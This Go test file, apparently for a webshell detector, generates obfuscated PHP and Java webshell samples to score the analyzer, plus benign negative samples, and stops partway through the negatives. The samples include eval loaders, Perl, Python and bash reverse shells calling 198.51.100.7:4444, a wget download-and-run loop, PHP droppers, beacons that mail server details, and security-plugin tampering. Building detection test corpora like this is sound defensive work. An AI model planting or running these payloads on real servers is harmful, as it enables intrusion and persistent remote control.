package webshell

import (
	"fmt"
	"math/rand"
	"strings"
	"testing"

	"github.com/strata-forensics/strata/audit"
)

// More techniques, generated: request input kept in an object's property, names spliced out
// of junk-filled literals, pages that decode themselves, image polyglots, droppers and stagers.

// classPages: a class takes the request value into a property (in its constructor, a setter
// or an init method); the page reads the property back through the object, decodes it and
// evaluates it.
func classPages(r *rand.Rand) []techVariant {
	srcs := []string{"$_REQUEST['%s']", "$_POST['%s']", "$_COOKIE['%s']", "@$_GET['%s']", "$_SERVER['HTTP_%s']"}
	decs := []func(x string) string{
		func(x string) string { return "base64_decode(" + x + ")" },
		func(x string) string { return "hex2bin(" + x + ")" },
		func(x string) string { return "str_rot13(" + x + ")" },
		func(x string) string { return "gzinflate(base64_decode(" + x + "))" },
		func(x string) string { return "strrev(" + x + ")" },
		func(x string) string { return "xr(" + x + ", 'k" + fmt.Sprint(r.Intn(99)) + "')" },
	}
	xr := "function xr($s, $k) {\n  $o = '';\n  for ($i = 0; $i < strlen($s); $i++) {\n    $o .= $s[$i] ^ $k[$i % strlen($k)];\n  }\n  return $o;\n}\n"
	var out []techVariant
	for n := 0; n < 30; n++ {
		cls, prop, obj, v := "C"+word(r), "p"+word(r), "$o"+word(r), "$v"+word(r)
		src := fmt.Sprintf(srcs[r.Intn(len(srcs))], strings.ToUpper(word(r)))
		var class, build string
		switch n % 3 {
		case 0:
			class = "class " + cls + " {\n  public $" + prop + ";\n  function __construct() {\n    $this->" + prop + " = " + src + ";\n  }\n}\n"
			build = obj + " = new " + cls + "();\n"
		case 1:
			class = "class " + cls + " {\n  var $" + prop + ";\n  public function set($x) { $this->" + prop + " = $x; }\n}\n"
			build = obj + " = new " + cls + ";\n" + obj + "->set(" + src + ");\n"
		case 2:
			class = "class " + cls + "\n{\n  private $" + prop + " = '';\n  public function __construct()\n  {\n    $this\n      ->" + prop + " = " + src + ";\n  }\n  public function get() { return $this->" + prop + "; }\n}\n"
			build = obj + " = new " + cls + "();\n"
		}
		read := obj + "->" + prop
		if n%3 == 2 {
			read = obj + "->get()"
		}
		// one to three decoders, in place or through a variable
		body := v + " = " + read + ";\n"
		for k := 0; k <= r.Intn(3); k++ {
			body += v + " = " + decs[r.Intn(len(decs))](v) + ";\n"
		}
		switch r.Intn(4) {
		case 0:
			body += "eval(" + v + ");\n"
		case 1:
			body += "@eval(\"?>\" . " + v + ");\n"
		case 2:
			body += "$f = create_function('', " + v + ");\n$f();\n"
		case 3:
			body = obj + " = " + read + ";\neval(" + decs[0](obj) + ");\n"
		}
		page := "<?php\n" + xr + class + build + body
		if r.Intn(2) == 0 {
			page = "<?php\n" + class + xr + "\n" + build + body
		}
		out = append(out, techVariant{"class-property", "/var/www/html/upload/" + word(r) + ".phtml", page})
	}
	return out
}

// splicePages: the names of the runner and the decoder are spliced out of literals filled
// with junk (str_replace, str_ireplace, strtr with a map), the payload is split over several
// variables and the junk taken out of it before it is decoded and run; the page spells none
// of the names it calls.
func splicePages(r *rand.Rand) []techVariant {
	payloads := []string{"@eval($_POST['%s']);", "system($_REQUEST['%s']);", "eval(base64_decode($_COOKIE['%s']));", "passthru($_GET[\"%s\"]);"}
	var out []techVariant
	for n := 0; n < 32; n++ {
		junk := []string{"#;", "x9q", "@@", "~_~", "QZ1"}[r.Intn(5)]
		fill := func(s string) string {
			var b strings.Builder
			for i := 0; i < len(s); i++ {
				if r.Intn(2) == 0 {
					b.WriteString(junk)
				}
				b.WriteByte(s[i])
			}
			return b.String()
		}
		mixed := func(s string) string {
			if n%4 != 1 {
				return s
			}
			return strings.ToUpper(s[:1]) + s[1:]
		}
		jv := "$" + word(r)
		head := jv + " = '" + junk + "';\n"
		unjunk := func(lit string) string {
			switch n % 4 {
			case 0:
				return "str_replace(" + jv + ", '', " + lit + ")"
			case 1:
				return "str_ireplace(" + jv + ", \"\", " + mixed(lit) + ")"
			case 2:
				return "strtr(" + lit + ", array(" + jv + " => ''))"
			}
			return "str_replace('" + junk + "', '', " + lit + ")"
		}
		if n%4 == 3 {
			head = ""
		}
		// the remover itself, spliced, once the page has it
		rep := "$" + word(r)
		spliced := func(name string) string { return rep + "(" + jv + ", '', '" + fill(name) + "')" }
		if n%4 != 0 {
			spliced = func(name string) string { return unjunk("'" + fill(name) + "'") }
		} else {
			head += rep + " = " + unjunk("'"+fill("str_replace")+"'") + ";\n"
		}
		dec, run := "$"+word(r), "$"+word(r)
		head += dec + " = " + spliced("base64_decode") + ";\n"
		body := fmt.Sprintf(payloads[r.Intn(len(payloads))], strings.ToLower(word(r)))
		enc := b64(body)
		double := r.Intn(2) == 0
		if double {
			enc = b64(enc)
		}
		enc = fill(enc)
		// split over two to four variables
		var parts []string
		k := 2 + r.Intn(3)
		for i := 0; i < k; i++ {
			lo, hi := i*len(enc)/k, (i+1)*len(enc)/k
			v := "$" + word(r)
			head += v + " = '" + enc[lo:hi] + "';"
			if r.Intn(2) == 0 {
				head += "\n"
			}
			parts = append(parts, v)
		}
		head += "\n"
		joined := strings.Join(parts, ".")
		if n%4 == 3 {
			joined = "str_replace('" + junk + "', '', " + joined + ")"
		} else if n%4 == 2 {
			joined = "strtr(" + joined + ", array(" + jv + " => ''))"
		} else {
			joined = unjunk(joined)
			if n%4 == 0 {
				joined = rep + "(" + jv + ", '', " + joined + ")"
			}
		}
		code := dec + "(" + joined + ")"
		if double {
			code = dec + "(" + code + ")"
		}
		var page string
		switch r.Intn(2) {
		case 0:
			page = head + run + " = " + spliced("create_function") + ";\n$" + "g = " + run + "('', " + code + ");\n$" + "g();\n"
		case 1:
			page = head + run + " = " + spliced("create_function") + "; " + run + " = " + run + "('', " + code + "); " + run + "();\n"
		}
		out = append(out, techVariant{"spliced-names", "/var/www/html/wp-content/themes/t/inc/" + word(r) + ".inc.php", "<?php\n" + page + "?>\n"})
	}
	return out
}

// selfDecodingPages: the payload sits after the page's code as bytes PHP never runs (after
// ?> or __halt_compiler()), and the code reads the page's own file, decodes the stretch and
// evaluates it; the loader itself is sometimes packed again in a literal.
func selfDecodingPages(r *rand.Rand) []techVariant {
	const std = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	var out []techVariant
	for n := 0; n < 30; n++ {
		payload := fmt.Sprintf("if(isset($_POST['%s'])){echo shell_exec($_POST['%s']);}", word(r), word(r))
		perm := []byte(std)
		r.Shuffle(len(perm), func(i, j int) { perm[i], perm[j] = perm[j], perm[i] })
		blob := b64(payload)
		dec := ""
		switch n % 4 {
		case 0: // a private base64 alphabet
			tr := make([]byte, len(blob))
			for i := range blob {
				if k := strings.IndexByte(std, blob[i]); k >= 0 {
					tr[i] = perm[k]
				} else {
					tr[i] = blob[i]
				}
			}
			blob = string(tr)
			dec = "base64_decode(strtr(%s, '" + string(perm) + "', '" + std + "'))"
		case 1:
			blob = b64(string(deflate(payload)))
			dec = "gzinflate(base64_decode(%s))"
		case 2:
			blob = reverse(blob)
			dec = "base64_decode(strrev(%s))"
		case 3:
			dec = "base64_decode(%s)"
		}
		self, pre := "__FILE__", ""
		switch r.Intn(3) {
		case 1:
			v := "$" + word(r)
			self, pre = v, v+" = __FILE__;\n"
		case 2:
			self = "$_SERVER['SCRIPT_FILENAME']"
		}
		h, d, c := "$"+word(r), "$"+word(r), "$"+word(r)
		var read string
		marker := "__halt_compiler();"
		switch r.Intn(4) {
		case 0: // open, skip the code lines, read the blob's length
			read = h + " = fopen(" + self + ", 'rb');\nfgets(" + h + ", 4096);\nfgets(" + h + ", 4096);\n" + d + " = fread(" + h + ", " + fmt.Sprint(len(blob)) + ");\nfclose(" + h + ");\n"
			marker = "?>"
		case 1: // the whole file, cut after the marker
			read = h + " = file_get_contents(" + self + ");\n" + d + " = substr(" + h + ", strpos(" + h + ", '__halt_' . 'compiler();') + 18);\n"
		case 2: // its lines, the last one
			read = h + " = file(" + self + ");\n" + d + " = trim(end(" + h + "));\n"
			marker = "?>"
		case 3: // a stream read at the data offset
			read = h + " = @fopen(" + self + ", 'r');\nfseek(" + h + ", __COMPILER_HALT_OFFSET__);\n" + d + " = stream_get_contents(" + h + ");\n"
		}
		run := c + " = " + fmt.Sprintf(dec, d) + ";\neval(" + c + ");\n"
		switch r.Intn(3) {
		case 1:
			run = "eval(" + fmt.Sprintf(dec, d) + ");\n"
		case 2:
			run = c + " = " + fmt.Sprintf(dec, d) + ";\n$" + "f = create_function('', " + c + ");\n$" + "f();\n"
		}
		loader := read + run
		if r.Intn(3) == 0 {
			loader = "eval(base64_decode('" + b64(loader) + "'));\n"
		}
		var page string
		if marker == "?>" {
			// the code on its first two lines, the blob after the closing tag
			page = "<?php " + strings.ReplaceAll(pre+loader, "\n", " ") + "\n" + "return; ?>\n" + blob
			if strings.Contains(read, "fgets") {
				page = "<?php // packed\n" + strings.ReplaceAll(pre+loader, "\n", " ") + " return; ?>\n" + blob
			}
		} else {
			page = "<?php\n" + pre + loader + "__halt_compiler();" + blob
		}
		out = append(out, techVariant{"self-decoding", "/var/www/html/wp-includes/" + word(r) + ".php", page})
	}
	return out
}

func reverse(s string) string {
	b := []byte(s)
	for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
		b[i], b[j] = b[j], b[i]
	}
	return string(b)
}

// stagerPages: a page writes a script it carries (base64 or plain, Perl, Python, shell) to
// a hidden or temporary file and runs it, directly or through a fallback chain of runners.
func stagerPages(r *rand.Rand) []techVariant {
	scripts := []string{
		"#!/usr/bin/perl\nuse Socket;\n$h=$ARGV[0];$p=$ARGV[1];\nsocket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));\nif(connect(S,sockaddr_in($p,inet_aton($h)))){open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh -i');}\n",
		"import socket,subprocess,os,sys\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect((sys.argv[1],int(sys.argv[2])))\nos.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2)\nsubprocess.call(['/bin/sh','-i'])\n",
		"#!/bin/bash\nwhile true; do bash -i >& /dev/tcp/$1/$2 0>&1; sleep 30; done\n",
		"#!/bin/sh\ncd /tmp || exit\nfor a in x86 arm mips; do wget -q http://203.0.113.9/b.$a -O .k && chmod +x .k && ./.k; done\nrm -f \"$0\"\n",
	}
	paths := []string{"/tmp/.bc", "/dev/shm/.s", "/var/tmp/.cache.pl", "/tmp/.X11-lock", "/tmp/sess_" + word(r)}
	runners := []func(cmd string) string{
		func(cmd string) string { return "exec(" + cmd + ");" },
		func(cmd string) string { return "echo shell_exec(" + cmd + ");" },
		func(cmd string) string { return "@system(" + cmd + ");" },
		func(cmd string) string { return "$h = popen(" + cmd + ", 'r'); pclose($h);" },
		func(cmd string) string { return "$out = runit(" + cmd + ");" },
	}
	chain := "function runit($c) {\n  $o = '';\n  if (function_exists('exec')) { @exec($c, $o); $o = join(\"\\n\", $o); }\n  elseif (function_exists('shell_exec')) { $o = @shell_exec($c); }\n  elseif (function_exists('passthru')) { ob_start(); @passthru($c); $o = ob_get_clean(); }\n  elseif (is_resource($f = @popen($c, 'r'))) { while (!feof($f)) { $o .= fread($f, 1024); } pclose($f); }\n  return $o;\n}\n"
	var out []techVariant
	for n := 0; n < 30; n++ {
		sc := scripts[n%len(scripts)]
		file := paths[r.Intn(len(paths))]
		pv, sv := "$"+word(r), "$"+word(r)
		plain := r.Intn(3) == 0 && strings.HasPrefix(sc, "#!")
		head := ""
		lit := b64(sc)
		if plain {
			lit = sc
		}
		// the literal over several lines, joined
		var pieces []string
		for k := 0; k < len(lit); k += 76 {
			pieces = append(pieces, "'"+strings.ReplaceAll(lit[k:min(k+76, len(lit))], "'", "\\'")+"'")
		}
		head += sv + " = " + strings.Join(pieces, " .\n  ") + ";\n"
		content := "base64_decode(" + sv + ")"
		if plain {
			content = sv
		}
		pathExpr := "'" + file + "'"
		if r.Intn(2) == 0 {
			head += pv + " = '" + file + "';\n"
			pathExpr = pv
		}
		var write string
		switch r.Intn(3) {
		case 0:
			write = "file_put_contents(" + pathExpr + ", " + content + ");\n"
		case 1:
			write = "$fh = fopen(" + pathExpr + ", 'w');\nfwrite($fh, " + content + ");\nfclose($fh);\n"
		case 2:
			wf := word(r)
			head = "function " + wf + "($name, $text) {\n  if ($fp = @fopen($name, 'w')) {\n    @fputs($fp, @base64_decode($text));\n    @fclose($fp);\n  }\n}\n" + head
			if plain {
				head = strings.Replace(head, "@base64_decode($text)", "$text", 1)
			}
			write = wf + "(" + pathExpr + ", " + sv + ");\n"
		}
		interp := map[string]string{"#!/usr/bin/perl": "perl", "import socket": "python3", "#!/bin/bash": "bash", "#!/bin/sh": "sh"}
		prog := "sh"
		for k, v := range interp {
			if strings.HasPrefix(sc, k) {
				prog = v
			}
		}
		var cmd string
		if pathExpr == pv && r.Intn(2) == 0 {
			cmd = "\"" + prog + " " + pv + " 198.51.100.7 4444 > /dev/null 2>&1 &\""
		} else {
			cmd = "'" + prog + " " + file + " 198.51.100.7 4444 &'"
		}
		run := runners[r.Intn(len(runners))](cmd)
		page := "<?php\n" + head + write
		if strings.Contains(run, "runit(") {
			page = "<?php\n" + chain + head + write
		}
		page += run + "\n?>\n"
		out = append(out, techVariant{"stager", "/var/www/html/" + []string{"uploads/2024/03/", "", "wp-content/plugins/x/"}[r.Intn(3)] + word(r) + ".php", page})
	}
	return out
}

// downloaderPages: a page fetches a URL (request-supplied or a literal) and writes what it
// gets into the web directory, behind a request password or in an upload directory.
func downloaderPages(r *rand.Rand) []techVariant {
	urls := []string{"$_GET['u']", "$_POST['url']", "$_REQUEST['src']", "'http://203.0.113.5/s.txt'", "'https://paste.example.net/raw/" + word(r) + "'"}
	dests := []string{"'./' . basename($url)", "__DIR__ . '/" + word(r) + ".php'", "$_SERVER['DOCUMENT_ROOT'] . '/wp-" + word(r) + ".php'", "'" + word(r) + ".php'"}
	gates := []string{
		"if ($_REQUEST['pwd'] != '%s') exit('denied');\n",
		"if (md5($_POST['k']) !== '%s') { die(); }\n",
		"if (!isset($_GET['t']) || $_GET['t'] != '%s') { header('HTTP/1.0 404 Not Found'); exit; }\n",
	}
	var out []techVariant
	for n := 0; n < 28; n++ {
		url := urls[r.Intn(len(urls))]
		dest := dests[r.Intn(len(dests))]
		head := "$url = " + url + ";\n$dest = " + dest + ";\n"
		if r.Intn(2) == 0 {
			head = "$url = " + url + ";\n$dir = './';\n$dest = $dir . basename($url);\n"
		}
		var body string
		switch n % 4 {
		case 0:
			body = "$in = fopen($url, 'rb');\nif ($in) {\n  $o = fopen($dest, 'wb');\n  while (!feof($in)) { fwrite($o, fread($in, 8192), 8192); }\n  fclose($o);\n}\n"
		case 1:
			body = "$data = file_get_contents($url);\nfile_put_contents($dest, $data);\necho 'ok';\n"
		case 2:
			body = "if (copy($url, $dest)) echo 'done';\n"
			if strings.Contains(head, "$dir") {
				body = "copy($url, './' . basename($url));\n"
			}
		case 3:
			body = "$ch = curl_init($url);\n$fp = fopen($dest, 'w');\ncurl_setopt($ch, CURLOPT_FILE, $fp);\ncurl_setopt($ch, CURLOPT_HEADER, 0);\ncurl_exec($ch);\ncurl_close($ch);\nfclose($fp);\n"
		}
		p := "/var/www/html/images/" + word(r) + ".php"
		page := "<?php\n"
		if r.Intn(3) == 0 {
			p = "/var/www/html/wp-content/uploads/2023/07/" + word(r) + ".php"
		} else {
			page += fmt.Sprintf(gates[r.Intn(len(gates))], word(r))
		}
		page += "set_time_limit(0);\n" + head + body
		out = append(out, techVariant{"downloader", p, page})
	}
	return out
}

// confinedManager writes a file manager that uploads into a directory the request picks
// below its own; confined: realpath() and a prefix check keep it there; chmod: it also sets
// a file's mode; login: behind a session password.
func confinedManager(r *rand.Rand, confined, chmod, login bool) string {
	root, d := "$"+word(r), "$"+word(r)
	var b strings.Builder
	b.WriteString("<?php\n")
	if login {
		b.WriteString("session_start();\nif (isset($_POST['pass']) && $_POST['pass'] === 'changeme') { $_SESSION['ok'] = true; }\nif (empty($_SESSION['ok'])) { echo '<form method=post><input name=pass type=password></form>'; exit; }\n")
	}
	b.WriteString(root + " = " + []string{"__DIR__", "dirname(__FILE__)", "getcwd()", "realpath('.')"}[r.Intn(4)] + ";\n")
	b.WriteString(d + " = isset($_GET['dir']) ? realpath($_GET['dir']) : " + root + ";\n")
	if confined {
		b.WriteString([]string{
			"if (" + d + " === false || strpos(" + d + ", " + root + ") !== 0) {\n  " + d + " = " + root + ";\n}\n",
			"if (!" + d + " || !str_starts_with(" + d + ", " + root + ")) { die('no'); }\n",
			"if (strncmp(" + d + ", " + root + ", strlen(" + root + ")) !== 0) " + d + " = " + root + ";\n",
		}[r.Intn(3)])
	}
	b.WriteString("if (isset($_FILES['f'])) {\n  move_uploaded_file($_FILES['f']['tmp_name'], " + d + " . '/' . $_FILES['f']['name']);\n}\n")
	if chmod {
		b.WriteString("if (isset($_GET['m'])) chmod($_GET['p'], octdec($_GET['m']));\n")
	}
	b.WriteString("foreach (scandir(" + d + ") as $e) { echo htmlspecialchars($e), '<br>'; }\n")
	return b.String()
}

// TestConfinedFileManager: a file manager that keeps its uploads below its own directory
// (realpath and a prefix check, no chmod) is medium, low behind a session login; the same page
// without the check, or setting modes, stays high.
func TestConfinedFileManager(t *testing.T) {
	r := rand.New(rand.NewSource(13))
	counts := map[string][2]int{}
	for n := 0; n < 40; n++ {
		confined, chmod, login := n%2 == 0, n%5 == 1, n%3 == 0
		page := confinedManager(r, confined, chmod, login)
		fs := New().Analyze("/var/www/html/files/"+word(r)+".php", []byte(page))
		b := best(fs)
		want, name := audit.High, "unconfined"
		if confined && !chmod {
			want, name = audit.Medium, "confined"
			if login {
				want = audit.Low
			}
		}
		c := counts[name]
		c[1]++
		if b == nil || b.Severity != want {
			t.Errorf("%s (login %v, chmod %v): want %v:%s\n%s", name, login, chmod, want, dump(fs), page)
		} else {
			c[0]++
		}
		counts[name] = c
	}
	for k, v := range counts {
		fmt.Printf("harness: webshell/technique-file-manager-%s %d/%d\n", k, v[0], v[1])
	}
}

// beaconPages: a page collects what the server is and mails it to addresses it spells.
func beaconPages(r *rand.Rand) []techVariant {
	facts := []string{"php_uname()", "@get_current_user()", "ini_get('safe_mode')", "ini_get('disable_functions')", "$_SERVER['DOCUMENT_ROOT']",
		"$_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']", "getcwd()", "PHP_OS", "$_SERVER['SERVER_ADDR']"}
	var out []techVariant
	for n := 0; n < 24; n++ {
		var b strings.Builder
		b.WriteString("<?php\nerror_reporting(0);\n")
		body := "$" + word(r)
		k := 2 + r.Intn(3)
		perm := r.Perm(len(facts))
		// at least one fact no application mails about itself
		picked := []string{facts[r.Intn(4)]}
		for _, i := range perm[:k] {
			picked = append(picked, facts[i])
		}
		if r.Intn(3) == 0 {
			b.WriteString("ob_start();\nphpinfo();\n$info = ob_get_contents();\nob_end_clean();\n")
			picked = append(picked, "$info")
		}
		switch r.Intn(3) {
		case 0: // each fact in a variable, interpolated
			var vs []string
			for _, f := range picked {
				v := "$" + word(r)
				b.WriteString(v + " = " + f + ";\n")
				vs = append(vs, "{"+v+"}")
			}
			b.WriteString(body + " = \"<b>host:</b> " + strings.Join(vs, "<br>") + "\";\n")
		case 1: // appended piece by piece
			b.WriteString(body + " = '';\n")
			for _, f := range picked {
				b.WriteString(body + " .= 'x: ' . " + f + " . \"\\n\";\n")
			}
		case 2: // an array joined
			b.WriteString(body + " = implode(\"\\n\", array(" + strings.Join(picked, ", ") + "));\n")
		}
		to := word(r) + "@mail.example.com"
		if r.Intn(2) == 0 {
			to += "," + word(r) + "@inbox.example.org"
		}
		call := "mail('" + to + "', 'site', " + body + ", 'From: <noreply>');"
		if r.Intn(2) == 0 {
			tv := "$" + word(r)
			b.WriteString(tv + " = '" + to + "';\n")
			call = "if (mail(" + tv + ", 'hi " + word(r) + "', " + body + ")) { echo 'ok'; }"
		}
		b.WriteString(call + "\n")
		p := "/var/www/html/wp-content/uploads/2019/0" + fmt.Sprint(1+r.Intn(9)) + "/" + word(r) + ".php"
		out = append(out, techVariant{"recon-beacon", p, b.String()})
	}
	return out
}

// tamperPages: a page renames or removes a security plugin's directory, or sets its own
// file's time to another file's.
func tamperPages(r *rand.Rand) []techVariant {
	plugins := []string{"wordfence", "sucuri-scanner", "better-wp-security", "all-in-one-wp-security"}
	roots := []string{"$_SERVER['DOCUMENT_ROOT'] . '/wp-content/plugins/%s'", "ABSPATH . 'wp-content/plugins/%s'", "'../wp-content/plugins/%s'", "WP_CONTENT_DIR . '/plugins/%s'"}
	var out []techVariant
	for n := 0; n < 24; n++ {
		var b strings.Builder
		b.WriteString("<?php\n")
		if n%3 != 2 {
			pl := plugins[r.Intn(len(plugins))]
			dir := fmt.Sprintf(roots[r.Intn(len(roots))], pl)
			switch r.Intn(3) {
			case 0:
				b.WriteString("if (is_dir(" + dir + ")) { @rename(" + dir + ", " + dir + " . '_off'); }\n")
			case 1:
				b.WriteString("$p = " + dir + ";\nif (file_exists(" + dir + ")) rename(" + dir + ", dirname($p) . '/." + word(r) + "');\n")
			case 2:
				b.WriteString("@chmod(" + dir + ", 0);\n")
			}
		}
		if n%3 != 0 {
			self := []string{"__FILE__", "$_SERVER['SCRIPT_FILENAME']", "$me"}[r.Intn(3)]
			if self == "$me" {
				b.WriteString("$me = __FILE__;\n")
			}
			switch r.Intn(3) {
			case 0:
				b.WriteString("@touch(" + self + ", filemtime(__DIR__ . '/index.php'));\n")
			case 1:
				b.WriteString("$fs = glob('*.php');\n$t = array();\nforeach ($fs as $f) { $t[] = filemtime($f); }\ntouch(" + self + ", min($t));\n")
			case 2:
				b.WriteString("$old = filemtime('./');\ntouch(" + self + ", $old, $old);\n")
			}
		}
		b.WriteString("echo $_SERVER['SERVER_NAME'];\n")
		out = append(out, techVariant{"site-tamper", "/var/www/html/wp-admin/includes/class-" + word(r) + ".php", b.String()})
	}
	return out
}

// servletLoaderPages: Java source of a filter, servlet or listener that decrypts the request
// body (AES, base64) and defines a class from it by reflection or its own class loader.
func servletLoaderPages(r *rand.Rand) []techVariant {
	pkgs := []string{"javax", "jakarta"}
	bodies := []string{"req.getReader().readLine()", "new java.util.Scanner(req.getInputStream()).useDelimiter(\"\\\\A\").next()", "req.getParameter(\"" + word(r) + "\")"}
	b64s := []func(x string) string{
		func(x string) string { return "java.util.Base64.getDecoder().decode(" + x + ")" },
		func(x string) string { return "new sun.misc.BASE64Decoder().decodeBuffer(" + x + ")" },
		func(x string) string { return "org.apache.commons.codec.binary.Base64.decodeBase64(" + x + ")" },
	}
	var out []techVariant
	for n := 0; n < 24; n++ {
		pk := pkgs[r.Intn(2)]
		cls := "C" + word(r)
		key := fmt.Sprintf("%016x", r.Uint64())
		body := bodies[r.Intn(len(bodies))]
		data := "d" + word(r)
		var sb strings.Builder
		sb.WriteString("package com." + word(r) + ";\n\nimport javax.crypto.Cipher;\nimport javax.crypto.spec.SecretKeySpec;\nimport " + pk + ".servlet.*;\nimport " + pk + ".servlet.http.*;\nimport java.lang.reflect.Method;\n\n")
		var sig, reqDecl string
		switch n % 3 {
		case 0:
			sb.WriteString("public class " + cls + " implements Filter {\n  public void init(FilterConfig c) {}\n  public void destroy() {}\n")
			sig = "  public void doFilter(ServletRequest sr, ServletResponse sp, FilterChain ch) {\n"
			reqDecl = "      HttpServletRequest req = (HttpServletRequest) sr;\n"
		case 1:
			sb.WriteString("public class " + cls + " extends HttpServlet {\n")
			sig = "  protected void doPost(HttpServletRequest req, HttpServletResponse resp) {\n"
		case 2:
			sb.WriteString("public class " + cls + " implements ServletRequestListener {\n  public void requestDestroyed(ServletRequestEvent e) {}\n")
			sig = "  public void requestInitialized(ServletRequestEvent e) {\n"
			reqDecl = "      HttpServletRequest req = (HttpServletRequest) e.getServletRequest();\n"
		}
		if r.Intn(2) == 0 {
			sb.WriteString("  static class L extends ClassLoader {\n    L(ClassLoader p) { super(p); }\n    public Class g(byte[] b) { return super.defineClass(b, 0, b.length); }\n  }\n")
		}
		sb.WriteString(sig + "    try {\n" + reqDecl)
		sb.WriteString("      String k = \"" + key + "\";\n      Cipher c = Cipher.getInstance(\"AES\");\n      c.init(2, new SecretKeySpec(k.getBytes(), \"AES\"));\n")
		sb.WriteString("      byte[] " + data + " = c.doFinal(" + b64s[r.Intn(len(b64s))](body) + ");\n")
		if strings.Contains(sb.String(), "class L extends ClassLoader") {
			sb.WriteString("      Class x = new L(this.getClass().getClassLoader()).g(" + data + ");\n")
		} else {
			sb.WriteString("      Method m = ClassLoader.class.getDeclaredMethod(\"defineClass\", byte[].class, int.class, int.class);\n      m.setAccessible(true);\n")
			sb.WriteString("      Class x = (Class) m.invoke(Thread.currentThread().getContextClassLoader(), " + data + ", 0, " + data + ".length);\n")
		}
		sb.WriteString("      x.newInstance().equals(req);\n    } catch (Exception ex) { }\n  }\n}\n")
		p := "/usr/local/tomcat/webapps/ROOT/WEB-INF/src/com/" + cls + ".java"
		if r.Intn(2) == 0 {
			p = "/opt/app/src/main/java/com/" + cls + ".java"
		}
		out = append(out, techVariant{"servlet-loader-source", p, sb.String()})
	}
	return out
}

// word is a random PHP identifier.
func word(r *rand.Rand) string {
	const first = "abcdefghijklmnopqrstuvwxyz_"
	const rest = first + "0123456789"
	b := []byte{first[r.Intn(len(first))]}
	for n := 2 + r.Intn(8); n > 0; n-- {
		b = append(b, rest[r.Intn(len(rest))])
	}
	return string(b)
}

func TestHarnessTechniques2(t *testing.T) {
	r := rand.New(rand.NewSource(11))
	var vs []techVariant
	vs = append(vs, classPages(r)...)
	vs = append(vs, splicePages(r)...)
	vs = append(vs, selfDecodingPages(r)...)
	vs = append(vs, imagePages(r)...)
	vs = append(vs, stagerPages(r)...)
	vs = append(vs, downloaderPages(r)...)
	vs = append(vs, beaconPages(r)...)
	vs = append(vs, tamperPages(r)...)
	vs = append(vs, servletLoaderPages(r)...)
	scoreTechniques(t, vs, nil)
}

// Classes that keep request values in properties and use them as data: escaped output, a
// parameter bound into a query, a property of another class's object evaluated from a constant.
func TestTechnique2Negatives(t *testing.T) {
	pages := map[string]string{
		"/var/www/html/search.php":                                   "<?php\nclass Search {\n  public $q;\n  function __construct() { $this->q = $_REQUEST['q'] ?? ''; }\n}\n$s = new Search();\n$q = base64_decode($s->q);\necho htmlspecialchars($q);\n$st = $pdo->prepare('SELECT * FROM t WHERE n = ?');\n$st->execute([$s->q]);\n",
		"/var/www/html/hooks.php":                                    "<?php\n$sep = '-';\n$name = str_replace($sep, '_', 'render-title');\n$fn = 'hook_' . $name;\nfunction hook_render_title($t) { return '<h1>' . htmlspecialchars($t) . '</h1>'; }\necho $fn('Welcome');\n$msg = strtr('Hello {who}', array('{who}' => 'world'));\n$out = 'strtoupper';\necho $out($msg);\n",
		"/var/www/html/slug.php":                                     "<?php\n$junk = array('#', '%');\n$clean = str_replace($junk, '', 'my#page%title');\n$f = 'ucwords';\n$t = $f(str_replace('_', ' ', $clean));\n$cb = function ($s) { return trim($s); };\necho $cb($t);\n",
		"/var/www/html/source.php":                                   "<?php\nif (isset($_GET['source'])) { highlight_file(__FILE__); exit; }\n$sum = md5(file_get_contents(__FILE__));\n$cfg = base64_decode(substr(file_get_contents(__FILE__), __COMPILER_HALT_OFFSET__));\necho htmlspecialchars($cfg), $sum;\n__halt_compiler();eyJhIjoxfQ==",
		"/var/www/html/stub.php":                                     "<?php\nPhar::mapPhar('app.phar');\n$h = fopen(__FILE__, 'rb');\nfseek($h, __COMPILER_HALT_OFFSET__);\n$meta = json_decode(base64_decode(stream_get_contents($h)), true);\nrequire 'phar://app.phar/index.php';\n__halt_compiler();e30=",
		"/var/www/html/report.php":                                   "<?php\n$csv = \"id,name,total\\n1,alpha,10\\n2,beta,20\\n3,gamma,30\\n4,delta,40\\n5,epsilon,50\\n\";\nfile_put_contents('/tmp/report.csv', $csv);\nexec('gzip -f /tmp/report.csv');\n",
		"/var/www/html/fetch.php":                                    "<?php\n$feed = file_get_contents('https://news.example.org/rss.xml');\nfile_put_contents('/var/cache/app/rss.xml', $feed);\n$img = file_get_contents($_GET['img']);\nheader('Content-Type: image/png');\necho $img;\n",
		"/var/www/html/backup.php":                                   "<?php\n$sh = \"#!/bin/sh\\ntar czf /var/backups/site.tgz /var/www/html\\n\";\nfile_put_contents('/var/backups/run.sh', $sh);\necho 'saved';\n",
		"/var/www/html/contact.php":                                  "<?php\n$msg = 'From ' . $_SERVER['HTTP_HOST'] . ' (' . $_SERVER['REMOTE_ADDR'] . \"):\\n\" . strip_tags($_POST['message']);\nmail('owner@example.com', 'Contact form', $msg);\n",
		"/var/www/html/errors.php":                                   "<?php\n$report = 'PHP ' . phpversion() . ' on ' . $_SERVER['SERVER_NAME'] . ': ' . error_get_last()['message'];\nmail('dev@example.com', 'Site error', $report);\n",
		"/var/www/html/wp-content/plugins/wordfence/lib/cleanup.php": "<?php\n@unlink(WP_CONTENT_DIR . '/plugins/wordfence/tmp/cache.php');\n@rmdir(WP_CONTENT_DIR . '/plugins/wordfence/tmp');\n",
		"/var/www/html/cache.php":                                    "<?php\n$f = __DIR__ . '/cache/page.html';\nif (filemtime($f) < time() - 60) { file_put_contents($f, render()); touch($f, filemtime(__DIR__ . '/data.json')); }\ntouch(__FILE__);\n",
		"/opt/app/src/main/java/com/example/Hello.java":              "package com.example;\nimport javax.servlet.http.*;\nimport java.io.*;\npublic class Hello extends HttpServlet {\n  protected void doGet(HttpServletRequest req, HttpServletResponse resp) throws IOException {\n    String n = req.getParameter(\"name\");\n    resp.getWriter().println(\"Hello \" + org.owasp.encoder.Encode.forHtml(n));\n  }\n}\n",
